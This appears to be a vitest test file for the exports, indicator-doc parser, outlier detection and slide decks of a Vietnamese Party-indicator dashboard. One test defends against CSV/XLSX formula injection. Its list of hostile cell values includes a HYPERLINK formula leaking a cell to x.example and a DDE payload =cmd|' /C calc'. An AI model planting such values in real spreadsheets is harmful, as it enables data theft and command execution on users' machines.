// Exports and documentation: CSV text, the XLSX of the export page read back with exceljs, the parser of
// docs/indicators.md, the outlier method, and the deck of slides chosen for a unit and a year.
import {readFileSync} from "node:fs";
import ExcelJS from "exceljs";
import {describe, expect, it} from "vitest";
import {csvField, toCsv} from "../../src/components/csv.ts";
import {EXPORT_HEADER, exportCsv, exportRows, exportXlsx, type ExportFile} from "../../src/components/export-data.ts";
import {parseIndicatorDoc} from "../../src/components/indicator-doc.ts";
import {findOutliers, median, quantile, robustZ} from "../../src/components/outliers.ts";
import {Series, type IndicatorMeta, type SeriesFile} from "../../src/components/series.ts";
import {deckSpec, MAX_INDICATOR_SLIDES} from "../../src/components/slides.ts";

const share: IndicatorMeta = {indicator: "rate", name: "Tỷ lệ sinh hoạt", short: "Sinh hoạt", target: 1, higherIsBetter: true, kind: "share"};
const score: IndicatorMeta = {indicator: "index", name: "Chỉ số chất lượng", short: "Chỉ số", target: null, higherIsBetter: true, kind: "score"};
const labels = {levels: {tinh: "Tỉnh", tren_co_so: "Trên cơ sở"}, types: {nong_thon: "Nông thôn"}};

const exportFile: ExportFile = {
  units: [
    {code: "TQ", name: "Đảng bộ tỉnh Tuyên Quang", level: "tinh"},
    {code: "HU-LB", name: "Huyện ủy Lâm Bình", level: "tren_co_so", parent: "TQ", type: "nong_thon"}
  ],
  periods: ["2021", "2022", "2020-2025"],
  types: ["year", "year", "term"],
  n: {rate: {TQ: [90, 95, 185], "HU-LB": [9, null, 9]}, index: {"HU-LB": [null, null, null]}},
  d: {rate: {TQ: [100, 100, 200], "HU-LB": [10, null, 10]}, index: {"HU-LB": [null, null, null]}},
  v: {rate: {TQ: [0.9, 0.95, 0.925], "HU-LB": [0.9, null, 0.9]}, index: {"HU-LB": [70.5, 72, null]}}
};

describe("csv", () => {
  it("quotes only when needed and writes CRLF lines", () => {
    expect(csvField('a "b", c')).toBe('"a ""b"", c"');
    expect(csvField(" lead")).toBe('" lead"');
    expect(csvField(0.9381)).toBe("0.9381");
    expect(csvField(null)).toBe("");
    expect(toCsv(["Mã", "Giá trị"], [["A", 1.5]])).toBe("Mã,Giá trị\r\nA,1.5\r\n");
  });
});

const HOSTILE_NAMES = ['=HYPERLINK("http://x.example/?"&A1,"Bấm vào")', "+84 912", "-2+3", "@SUM(A1:A9)", "\tTab", "\rCR", "=cmd|' /C calc'!A0"];

describe("formula injection (CSV, XLSX)", () => {
  const hostile: ExportFile = {
    units: HOSTILE_NAMES.map((name, i) => ({code: `HU-X${i}`, name, level: "tren_co_so", parent: "TQ"})),
    periods: ["2022"],
    types: ["year"],
    n: {rate: Object.fromEntries(HOSTILE_NAMES.map((_, i) => [`HU-X${i}`, [-1]]))},
    d: {rate: Object.fromEntries(HOSTILE_NAMES.map((_, i) => [`HU-X${i}`, [2]]))},
    v: {rate: Object.fromEntries(HOSTILE_NAMES.map((_, i) => [`HU-X${i}`, [-0.5]]))}
  };
  const rows = exportRows([hostile], [share], {indicators: ["rate"], periodTypes: ["year"]});

  it("a CSV cell that a spreadsheet would read as a formula starts with an apostrophe; numbers stay numbers", () => {
    expect(rows).toHaveLength(HOSTILE_NAMES.length);
    const csv = exportCsv(rows, labels);
    // parse back: every name cell is the name behind an apostrophe, and the negative numbers are bare
    const lines = csv.trimEnd().split(/\r\n(?=HU-X)/).slice(1);
    lines.forEach((line, i) => {
      const name = HOSTILE_NAMES[i];
      const field = csvField(name);
      expect(field.replace(/^"/, "")[0], `field of ${JSON.stringify(name)}`).toBe("'");
      expect(line).toContain(field);
      expect(line.endsWith(",-1,2,-0.5")).toBe(true);
    });
    expect(csvField("Huyện ủy Lâm Bình")).toBe("Huyện ủy Lâm Bình");
    expect(csvField(-3)).toBe("-3");
  });

  it("an XLSX holds every text as an inline string with the same apostrophe, and no formula at all", async () => {
    const bytes = exportXlsx(rows, labels, {definitions: [{indicator: share, formula: "=1+1"}], filters: ["-"]});
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.from(bytes) as unknown as ExcelJS.Buffer);
    const data = wb.getWorksheet("Số liệu")!;
    HOSTILE_NAMES.forEach((name, i) => expect(data.getCell(`B${i + 2}`).value).toBe(`'${name}`));
    expect(data.getCell("L2").value).toBe(-0.5);
    expect(wb.getWorksheet("Định nghĩa")!.getCell("H2").value).toBe("'=1+1");
    for (const ws of wb.worksheets)
      ws.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.type, `${ws.name}!${cell.address}`).not.toBe(ExcelJS.ValueType.Formula);
          if (typeof cell.value === "string") expect(cell.value, `${ws.name}!${cell.address}`).not.toMatch(/^[=+\-@\t\r]/);
        })
      );
  });
});

describe("export table", () => {
  it("filters by indicator, period type, periods, units and committee; a missing value is no row", () => {
    const all = exportRows([exportFile], [share, score], {indicators: ["rate", "index"], periodTypes: ["year", "term"]});
    expect(all.map((r) => `${r.unit.code} ${r.indicator.indicator} ${r.period}`)).toEqual([
      "TQ rate 2021",
      "TQ rate 2022",
      "TQ rate 2020-2025",
      "HU-LB rate 2021",
      "HU-LB rate 2020-2025",
      "HU-LB index 2021",
      "HU-LB index 2022"
    ]);
    const years = exportRows([exportFile, exportFile], [share], {indicators: ["rate"], periodTypes: ["year"], periods: ["2022"], units: null});
    expect(years.map((r) => r.unit.code)).toEqual(["TQ"]); // the same file twice gives each row once
    const committee = exportRows([exportFile], [share], {indicators: ["rate"], periodTypes: ["year"], committee: "HU-LB"});
    expect(committee.map((r) => r.period)).toEqual(["2021"]);
  });

  it("writes a CSV with the Vietnamese header", () => {
    const rows = exportRows([exportFile], [share], {indicators: ["rate"], periodTypes: ["year"], units: ["HU-LB"]});
    const csv = exportCsv(rows, labels);
    const lines = csv.trimEnd().split("\r\n");
    expect(lines[0]).toBe(EXPORT_HEADER.join(","));
    expect(lines[1]).toBe("HU-LB,Huyện ủy Lâm Bình,Trên cơ sở,HU-LB,Nông thôn,Năm,2021,rate,Tỷ lệ sinh hoạt,9,10,0.9");
  });

  it("writes an XLSX with data, definitions and notes that exceljs reads back", async () => {
    const rows = exportRows([exportFile], [share, score], {indicators: ["rate", "index"], periodTypes: ["year", "term"]});
    const bytes = exportXlsx(rows, labels, {
      definitions: [{indicator: share, formula: "Số chi bộ-tháng có sinh hoạt / số chi bộ-tháng", numerator: "Số chi bộ-tháng có sinh hoạt", denominator: "Số chi bộ-tháng", source: "Điều lệ Đảng"}, {indicator: score}],
      filters: ["Cấp: tỉnh và đảng bộ trực thuộc"],
      generated: new Date(2022, 0, 15)
    });
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.from(bytes) as unknown as ExcelJS.Buffer);
    expect(wb.worksheets.map((w) => w.name)).toEqual(["Số liệu", "Định nghĩa", "Ghi chú"]);
    const data = wb.getWorksheet("Số liệu")!;
    expect((data.getRow(1).values as unknown[]).slice(1)).toEqual(EXPORT_HEADER);
    expect(data.rowCount).toBe(1 + rows.length);
    expect(data.getCell("A2").value).toBe("TQ");
    expect(data.getCell("J2").value).toBe(90);
    expect(data.getCell("L2").value).toBe(0.9);
    expect(data.getCell("L2").numFmt).toBe("0.0%");
    const index = rows.findIndex((r) => r.indicator.indicator === "index");
    expect(data.getCell(`L${index + 2}`).value).toBe(70.5);
    expect(data.getCell(`L${index + 2}`).numFmt).toBe("#,##0.00");
    const defs = wb.getWorksheet("Định nghĩa")!;
    expect(defs.getCell("A2").value).toBe("rate");
    expect(defs.getCell("H2").value).toBe("Số chi bộ-tháng có sinh hoạt / số chi bộ-tháng");
    expect(defs.getCell("I2").value).toBe("Số chi bộ-tháng có sinh hoạt");
    expect(defs.getCell("F3").value).toBe("Càng cao càng tốt");
    const notes = wb.getWorksheet("Ghi chú")!;
    expect(String(notes.getCell("A2").value)).toContain("DỮ LIỆU MÔ PHỎNG");
    expect(String(notes.getCell("A3").value)).toBe(`Xuất ngày 15/01/2022; ${rows.length} dòng.`);
  });
});

describe("docs/indicators.md", () => {
  it("yields a section with numerator, denominator, target and source for each documented indicator", () => {
    const docs = parseIndicatorDoc(readFileSync(new URL("../../docs/indicators.md", import.meta.url), "utf8"));
    const regular = docs.find((d) => d.indicator === "regular_meeting_rate");
    expect(regular).toBeDefined();
    expect(regular!.numerator).toMatch(/cell-months/);
    expect(regular!.denominator).toMatch(/cell-months/);
    expect(regular!.target).toMatch(/100/);
    expect(regular!.source).toMatch(/Điều lệ Đảng/);
  });

  it("reads labelled bullets in English or Vietnamese and stops at the next section", () => {
    const docs = parseIndicatorDoc(
      [
        "# Title",
        "## 1. `a_rate` — Tỷ lệ A",
        "- **Tử số:** số A",
        "- **Mẫu số:** số B, kéo dài",
        "  sang dòng sau",
        "- **Target:** 90 %. **Source:** Quy định 1",
        "- Periods: year",
        "## How they are tested",
        "- **Numerator:** not part of a_rate"
      ].join("\n")
    );
    expect(docs).toEqual([
      {
        indicator: "a_rate",
        title: "Tỷ lệ A",
        numerator: "số A",
        denominator: "số B, kéo dài sang dòng sau",
        target: "90 %.",
        source: "Quy định 1",
        periods: "year",
        text: expect.stringContaining("số A")
      }
    ]);
  });
});

describe("outliers", () => {
  it("computes quantiles, medians and modified z-scores", () => {
    expect(quantile([1, 2, 3, 4], 0.5)).toBe(2.5);
    expect(median([5, 1, 3])).toBe(3);
    const z = robustZ([1, 2, 3, 4, 100]);
    expect(z[2]).toBe(0);
    expect(z[4]).toBeCloseTo((0.6745 * 97) / 1, 5);
    // MAD = 0: the mean absolute deviation takes over.
    const flat = robustZ([1, 1, 1, 1, 0.5]);
    expect(flat[4]).toBeCloseTo(-0.5 / (1.253314 * 0.1), 5);
    expect(robustZ([1, 1, 1]).every(Number.isNaN)).toBe(true);
  });

  it("flags a value far from its peers and a jump from the previous year, ignoring small denominators", () => {
    const obs = [
      ...["a", "b", "c", "d", "e", "f", "g"].map((unit, i) => ({unit, year: 2021, value: 0.95 + i * 0.005, denominator: 100})),
      ...["a", "b", "c", "d", "e", "f"].map((unit, i) => ({unit, year: 2022, value: 0.95 + i * 0.005, denominator: 100})),
      {unit: "g", year: 2022, value: 0.6, denominator: 100}, // far below, and a jump of 38 points
      {unit: "h", year: 2022, value: 0.1, denominator: 5} // tiny denominator: not judged
    ];
    const {summaries, flags} = findOutliers(obs, "share");
    expect(summaries.map((s) => [s.year, s.n])).toEqual([
      [2021, 7],
      [2022, 7]
    ]);
    expect(flags.map((f) => [f.unit, f.year, f.rule])).toEqual([
      ["g", 2022, "z"],
      ["g", 2022, "jump"]
    ]);
    expect(flags.find((f) => f.rule === "jump")!.previous).toBeCloseTo(0.98, 5);
  });
});

describe("slides", () => {
  const indicators: IndicatorMeta[] = Array.from({length: 8}, (_, i) => ({
    indicator: `i${i}`,
    name: `Chỉ tiêu ${i}`,
    short: `CT ${i}`,
    target: i === 7 ? null : 0.9,
    higherIsBetter: true,
    kind: "share"
  }));
  const v = (base: number) => Object.fromEntries(["P", "A", "B", "C"].map((u, j) => [u, [base - j * 100, base + 200 - j * 100, null]]));
  const file: SeriesFile = {
    years: [2020, 2021, 2022],
    terms: ["2015-2020", "2020-2025"],
    scale: Object.fromEntries(indicators.map((d) => [d.indicator, 10000])),
    units: [
      {code: "P", name: "Đảng bộ tỉnh P", level: "tinh"},
      {code: "A", name: "Huyện ủy A", level: "tren_co_so", parent: "P"},
      {code: "B", name: "Huyện ủy B", level: "tren_co_so", parent: "P"},
      {code: "C", name: "Huyện ủy C", level: "tren_co_so", parent: "P"}
    ],
    v: Object.fromEntries(indicators.map((d) => [d.indicator, v(9000)])),
    t: Object.fromEntries(indicators.map((d) => [d.indicator, Object.fromEntries(["P", "A", "B", "C"].map((u) => [u, [8800, 9100]]))]))
  };
  const series = new Series(file);

  it("builds a title, at most six indicator slides, a ranking, the terms and a summary", () => {
    const deck = deckSpec({series, indicators, unit: "B", year: 2021, province: "P"});
    expect(deck.map((s) => s.kind)).toEqual(["title", ...Array(MAX_INDICATOR_SLIDES).fill("indicator"), "ranking", "terms", "summary"]);
    expect(deck.length).toBeGreaterThanOrEqual(7);
    expect(deck.length).toBeLessThanOrEqual(11);
    const first = deck[1];
    expect(first.kind === "indicator" && first.headline).toBe("90,0\u00a0%"); // B 2021: 9200 − 100 − 100
    expect(first.kind === "indicator" && first.caption).toContain("+2,0\u00a0điểm\u00a0% so với 2020");
    expect(first.kind === "indicator" && first.caption).toContain("mục tiêu ≥ 90\u00a0%: đạt");
    const ranking = deck.find((s) => s.kind === "ranking")!;
    expect(ranking.kind === "ranking" && ranking.headline).toBe("Hạng 2/3");
    const terms = deck.find((s) => s.kind === "terms")!;
    expect(terms.kind === "terms" && terms.headline).toBe("8/8");
    const summary = deck.find((s) => s.kind === "summary")!;
    expect(summary.kind === "summary" && summary.headline).toBe("7/7");
  });

  it("ranks the province's committees on the province's deck, and skips indicators without a value", () => {
    const deck = deckSpec({series, indicators, unit: "P", year: 2021, province: "P"});
    const ranking = deck.find((s) => s.kind === "ranking")!;
    expect(ranking.kind === "ranking" && ranking.rows.map((r) => r.code)).toEqual(["A", "B", "C"]);
    expect(ranking.kind === "ranking" && ranking.headline).toBe("2/3"); // A (92 %) and B (91 %) meet the 90 % target
    const none = deckSpec({series, indicators, unit: "A", year: 2022, province: "P"});
    expect(none.map((s) => s.kind)).toEqual(["title"]);
    expect(deckSpec({series, indicators, unit: "Z", year: 2021, province: "P"})).toEqual([]);
  });
});
